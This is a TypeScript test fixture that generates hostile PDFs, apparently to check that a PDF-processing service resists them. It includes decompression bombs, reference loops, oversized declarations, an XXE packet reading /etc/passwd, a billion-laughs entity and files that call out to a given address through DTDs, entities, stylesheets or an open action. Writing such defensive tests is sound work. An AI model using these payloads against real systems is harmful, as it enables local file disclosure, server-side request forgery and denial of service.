import { deflateSync } from 'node:zlib';

/** An object's dictionary or value as written in the file, or a stream with its other entries. */
type Body = string | { readonly dictionary: string; readonly data: Uint8Array };

const MIB = 1024 * 1024;
const HEADER = '%PDF-1.7\n%\u00e2\u00e3\u00cf\u00d3\n';

const bytesOf = (number: number, body: Body): Buffer => {
  if (typeof body === 'string') return Buffer.from(`${number} 0 obj\n${body}\nendobj\n`, 'latin1');
  const head = `${number} 0 obj\n<<${body.dictionary}/Length ${body.data.length}>>\nstream\n`;
  return Buffer.concat([
    Buffer.from(head, 'latin1'),
    body.data,
    Buffer.from('\nendstream\nendobj\n', 'latin1'),
  ]);
};

/** A file with these objects, numbered from 1, and a right table of them. @param trailer more of its entries */
const pdfOf = (bodies: readonly Body[], trailer = ''): Buffer => {
  const objects = bodies.map((body, index) => bytesOf(index + 1, body));
  let at = HEADER.length;
  const rows = objects.map((object) => {
    const row = `${String(at).padStart(10, '0')} 00000 n \n`;
    at += object.length;
    return row;
  });
  const size = bodies.length + 1;
  const end = `xref\n0 ${size}\n0000000000 65535 f \n${rows.join('')}trailer\n<</Size ${size}/Root 1 0 R${trailer}>>\nstartxref\n${at}\n%%EOF\n`;
  return Buffer.concat([Buffer.from(HEADER, 'latin1'), ...objects, Buffer.from(end, 'latin1')]);
};

const CATALOG = '<</Type/Catalog/Pages 2 0 R>>';
const PAGES = '<</Type/Pages/Kids[3 0 R]/Count 1>>';
const FONT = '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>';
const page = (more = '', box = '0 0 595 842'): string =>
  `<</Type/Page/Parent 2 0 R/MediaBox[${box}]/Resources<</Font<</F 5 0 R>>>>/Contents 4 0 R${more}>>`;
const stream = (text: string, dictionary = ''): Body => ({ dictionary, data: Buffer.from(text, 'latin1') });
const shown = (text: string): string => `BT /F 18 Tf 60 700 Td (${text}) Tj ET`;
const flate = (data: Uint8Array, times = 1): Uint8Array =>
  times === 0 ? data : flate(deflateSync(data), times - 1);
const filters = (times: number): string =>
  `/Filter[${Array.from({ length: times }, () => '/FlateDecode').join('')}]`;

/** A sound file with a line of text; what follows in `more` are further objects from number 6. */
const soundPdf = (text: string, more: readonly Body[] = [], catalog = CATALOG): Buffer =>
  pdfOf([catalog, PAGES, page(), stream(shown(text)), FONT, ...more]);

const withContent = (content: Body, more: readonly Body[] = []): Buffer =>
  pdfOf([CATALOG, PAGES, page(), content, FONT, ...more]);

const withXmp = (text: string, packet: string): Buffer =>
  soundPdf(
    text,
    [stream(packet, '/Type/Metadata/Subtype/XML')],
    '<</Type/Catalog/Pages 2 0 R/Metadata 6 0 R>>',
  );

const xmp = (prolog: string, title: string): string =>
  `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?>${prolog}<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title><rdf:Alt><rdf:li xml:lang="x-default">${title}</rdf:li></rdf:Alt></dc:title></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>`;

/** Ten levels of ten: ten thousand million characters, were they written out. */
const LAUGHS = Array.from({ length: 10 }, (_, level) =>
  level === 0 ? '<!ENTITY l0 "lol">' : `<!ENTITY l${level} "${`&l${level - 1};`.repeat(10)}">`,
).join('');

/** Files made to do harm. Each begins as a PDF does, so that the door lets it in. */
export const hostilePdfs: Readonly<Record<string, () => Buffer>> = {
  'a content stream that grows to 128 MiB': () =>
    withContent({ dictionary: filters(2), data: flate(Buffer.alloc(128 * MIB, ' '), 2) }),
  'a stream packed ten times over': () =>
    withContent({ dictionary: filters(10), data: flate(Buffer.alloc(64 * MIB), 10) }),
  'an object stream that grows to 64 MiB': () =>
    soundPdf('Objects inside', [
      { dictionary: `/Type/ObjStm/N 100000/First 800000${filters(1)}`, data: flate(Buffer.alloc(64 * MIB)) },
    ]),
  'a table of objects that points to itself': () => {
    const pdf = soundPdf('Turning in circles').toString('latin1');
    const at = /startxref\n(\d+)/.exec(pdf)?.[1] ?? '';
    return Buffer.from(pdf.replace('/Root 1 0 R', `/Root 1 0 R/Prev ${at}`), 'latin1');
  },
  'a page tree that is its own child': () =>
    pdfOf([CATALOG, '<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>', page(), stream(shown('Loop')), FONT]),
  'a page tree of a thousand levels': () => {
    const levels = Array.from(
      { length: 1000 },
      (_, level) =>
        `<</Type/Pages/Count 1/Parent ${level === 0 ? 2 : level + 5} 0 R/Kids[${level === 999 ? 3 : level + 7} 0 R]>>`,
    );
    return pdfOf([
      CATALOG,
      '<</Type/Pages/Kids[6 0 R]/Count 1>>',
      page(),
      stream(shown('Deep')),
      FONT,
      ...levels,
    ]);
  },
  'two thousand million pages, as it says': () =>
    pdfOf([CATALOG, '<</Type/Pages/Kids[3 0 R]/Count 2147483647>>', page(), stream(shown('Many')), FONT]),
  'two hundred thousand objects': () =>
    soundPdf(
      'Crowded',
      Array.from({ length: 200_000 }, () => 'null'),
    ),
  'a table for a thousand million objects, as it says': () =>
    Buffer.from(
      soundPdf('Large numbers').toString('latin1').replace('/Size 6', '/Size 1000000000'),
      'latin1',
    ),
  'arrays in arrays, a hundred thousand deep': () =>
    soundPdf(
      'Brackets',
      [`${'['.repeat(100_000)}${']'.repeat(100_000)}`],
      '<</Type/Catalog/Pages 2 0 R/X 6 0 R>>',
    ),
  'a form that draws itself': () =>
    pdfOf([
      CATALOG,
      PAGES,
      page('', '0 0 595 842').replace('/Font<</F 5 0 R>>', '/Font<</F 5 0 R>>/XObject<</A 6 0 R>>'),
      stream('/A Do'),
      FONT,
      stream('/A Do /A Do', '/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</XObject<</A 6 0 R>>>>'),
    ]),
  'a page as large as a field': () =>
    pdfOf([CATALOG, PAGES, page('', '0 0 2000000000 2000000000'), stream(shown('Wide')), FONT]),
  'a picture of ten thousand million points': () =>
    pdfOf([
      CATALOG,
      PAGES,
      page().replace('/Font<</F 5 0 R>>', '/Font<</F 5 0 R>>/XObject<</A 6 0 R>>'),
      stream('500 0 0 500 0 0 cm /A Do'),
      FONT,
      {
        dictionary: `/Type/XObject/Subtype/Image/Width 100000/Height 100000/ColorSpace/DeviceRGB/BitsPerComponent 8${filters(1)}`,
        data: flate(Buffer.alloc(8 * MIB)),
      },
    ]),
  'a million letters one by one': () =>
    withContent(stream(`BT /F 1 Tf ${'1 0 Td (x) Tj '.repeat(1_000_000)}ET`)),
  'an XMP packet that reads a file of the machine': () =>
    withXmp('Local file', xmp('<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>', '&secret;')),
  'an XMP packet that calls home': () =>
    withXmp(
      'Call home',
      xmp('<!DOCTYPE x [<!ENTITY % far SYSTEM "http://127.0.0.1:9/far.dtd"> %far;]>', 'x'),
    ),
  'an XMP packet of a thousand million laughs': () =>
    withXmp('Laughs', xmp(`<!DOCTYPE x [${LAUGHS}]>`, '&l9;')),
  'an XMP packet ten thousand levels deep': () =>
    withXmp('Nested packet', `${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}`),
  'an XMP packet that grows to 64 MiB': () =>
    soundPdf(
      'Grown packet',
      [{ dictionary: `/Type/Metadata/Subtype/XML${filters(1)}`, data: flate(Buffer.alloc(64 * MIB, '<a>')) }],
      '<</Type/Catalog/Pages 2 0 R/Metadata 6 0 R>>',
    ),
  'nothing behind its first line': () => Buffer.from(HEADER.repeat(100), 'latin1'),
  'random bytes behind its first line': () =>
    Buffer.concat([
      Buffer.from(HEADER, 'latin1'),
      Buffer.from(Array.from({ length: 20_000 }, (_, at) => (at * 7919) % 251)),
    ]),
  'an unknown password, in a broken way': () =>
    pdfOf(
      [
        CATALOG,
        PAGES,
        page(),
        stream(shown('Locked')),
        FONT,
        '<</Filter/Standard/V 99/R 99/O(x)/U(x)/P -1>>',
      ],
      '/Encrypt 6 0 R/ID[(a)(a)]',
    ),
};

/** A sound file that shows this text, for what is said to those who read it. */
export const pdfThatSays = (text: string): Buffer => soundPdf(text.replaceAll(/[()\\]/g, String.raw`\$&`));

/** Files that ask for something at this address: as they are read, opened or shown. */
export const callingPdfs = (address: string): Readonly<Record<string, Buffer>> => ({
  'a document type of its packet': withXmp('Type', xmp(`<!DOCTYPE x SYSTEM "${address}/type.dtd">`, 'x')),
  'a parameter of its packet': withXmp(
    'Parameter',
    xmp(`<!DOCTYPE x [<!ENTITY % far SYSTEM "${address}/far.dtd"> %far;]>`, 'x'),
  ),
  'a word of its packet': withXmp(
    'Word',
    xmp(`<!DOCTYPE x [<!ENTITY far SYSTEM "${address}/word.txt">]>`, '&far;'),
  ),
  'a style of its packet': withXmp('Style', xmp(`<?xml-stylesheet href="${address}/style.xsl"?>`, 'x')),
  'a page that is a stream elsewhere': withContent(
    stream('', `/F<</Type/Filespec/FS/URL/F(${address}/page)>>`),
  ),
  'an action when it opens': soundPdf(
    'Action',
    [],
    `<</Type/Catalog/Pages 2 0 R/OpenAction<</S/URI/URI(${address}/open)>>>>`,
  ),
});
